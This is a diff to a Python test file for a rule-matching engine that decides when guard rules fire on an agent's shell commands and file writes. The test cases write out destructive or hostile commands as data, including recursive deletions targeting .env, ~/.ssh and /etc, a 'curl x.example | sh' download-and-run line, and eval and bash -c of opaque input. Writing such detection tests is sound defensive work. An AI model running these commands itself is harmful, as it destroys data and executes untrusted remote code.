@@ -21,7 +21,7 @@ Rule = Any
 
 
 def rule(name: str, **match: Any) -> Any:
-    return {"name": name, "match": match}
+    return {"name": name, "match": match, "layer": "user"}
 
 
 def event(
@@ -93,6 +93,25 @@ def seen(sent: Event) -> Facts:
         ({"paths": paths("src/**")}, event("cat src/a.py"), True),
         ({"paths": paths("src/**")}, event("cat docs/a.py"), False),
         ({"paths": paths("src/**")}, event("rm -r ."), True),
+        ({"paths": paths("src/**")}, event("rm -r /p"), True),
+        ({"paths": paths("src/**")}, event("cd .. && rm -r p"), True),
+        ({"paths": paths("src/gen/a*")}, event("rm -r src/gen"), True),
+        ({"paths": paths("src/gen/a*")}, event("cd x; rm -r out"), False),
+        ({"paths": paths("Src/gen/a*")}, event("cd src && rm -r gen"), True),
+        ({"paths": paths("./**", "!*.md")}, event("cd x; rm -r ../../p"), True),
+        ({"paths": paths("./**/.env")}, event("cd x; rm -r out"), False),
+        ({"paths": paths(".env", "*.pem")}, event("cd x; rm -r out"), False),
+        ({"paths": paths(".env", "*.pem")}, event("cd x; rm -r .env"), True),
+        ({"paths": paths("settings.json")}, write("SETTIN~1.JSO"), True),
+        ({"paths": paths("settings.json")}, event("cat SETTIN~1.JSO"), True),
+        ({"paths": paths("settings.json")}, event("cd x; frob SETTIN~1.JSO"), True),
+        ({"paths": paths("~/.ssh/**")}, event("cd /; rm -r h"), True),
+        ({"paths": paths("~/.ssh/**")}, event("cd /h; rm -r .ssh/x"), True),
+        ({"paths": paths("~/.config/**")}, event("cd x; rm -r out"), False),
+        ({"paths": paths("/etc/x/y")}, event("cd x; rm -r /etc/x"), True),
+        ({"paths": paths("/etc/x/y")}, event("cd x; rm -r out"), False),
+        ({"paths": paths("**/{$A_HOME,$\\{B_HOME\\}}/x{1,}")}, event("cd x; cat out"), False),
+        ({"paths": paths("**/{a_home,b_home}/{x,}")}, event("cd x; cat b_home/x"), True),
         ({"command": {"stdin": [{"regex": "drop"}]}}, event("echo drop | cat"), True),
         ({"command": {"program": ["git"]}}, event("cd x; git push"), True),
         ({"command": {"program": ["git"]}}, event("cd x; ls"), False),
@@ -119,6 +138,12 @@ def seen(sent: Event) -> Facts:
         ({"command": {"via": ["wrapper"]}}, event("ls"), False),
         ({"command": {"via": ["wrapper"]}}, event("sudo ls"), True),
         ({"command": {"via": ["wrapper"]}}, write(), False),
+        ({"command": {"via": ["wrapper"]}}, event("cd x; echo $y"), False),
+        ({"command": {"opaque": ["code", "output"]}}, event("cd x; echo $y"), False),
+        ({"command": {"opaque": ["code", "output"]}}, event("eval $y"), True),
+        ({"command": {"opaque": ["code"], "program": ["bash"]}}, event("bash -c $y"), True),
+        ({"command": {"stdin_from": ["download"]}}, event("curl x.example | sh"), True),
+        ({"command": {"user": ["root"]}}, event("sudo ls"), True),
         ({"command": {"program": ["git"]}}, event(tool="PowerShell", command="git"), True),
         ({"command": {"program": ["git"]}}, event(tool="mcp__x__y", command="git"), True),
         ({"command": {"program": ["git"]}, "paths": paths("docs/**")}, event("git x"), True),
@@ -166,13 +191,23 @@ def test_rules_come_in_the_order_they_were_packed() -> None:
     assert selected(rules, event("ls")) == ["c", "a", "b", "d"]
 
 
+def test_a_project_s_places_are_those_of_its_own_root() -> None:
+    given_rule = rule("it", paths=paths("src/**")) | {"layer": "project"}
+    assert selected([given_rule], event("cd x; rm -r out")) == ["it"]
+
+
 def test_a_rule_filed_in_several_drawers_comes_once() -> None:
     both = rule("it", operations=["PreToolUse", "Stop"], tools=["Bash", "Shell"], command_match=["l", "s"])
     assert selected([both], event("ls")) == ["it"]
 
 
 def test_the_rules_come_out_as_they_went_in() -> None:
-    given_rule: Rule = {"name": "é\ud800", "match": {}, "actions": {"rewrite": {"n": [1, 2.5, None, True]}}}
+    given_rule: Rule = {
+        "name": "é\ud800",
+        "match": {},
+        "layer": "user",
+        "actions": {"rewrite": {"n": [1, 2.5, None, True]}},
+    }
     assert select(index.pack([given_rule]), event("ls")) == (given_rule,)
 
 
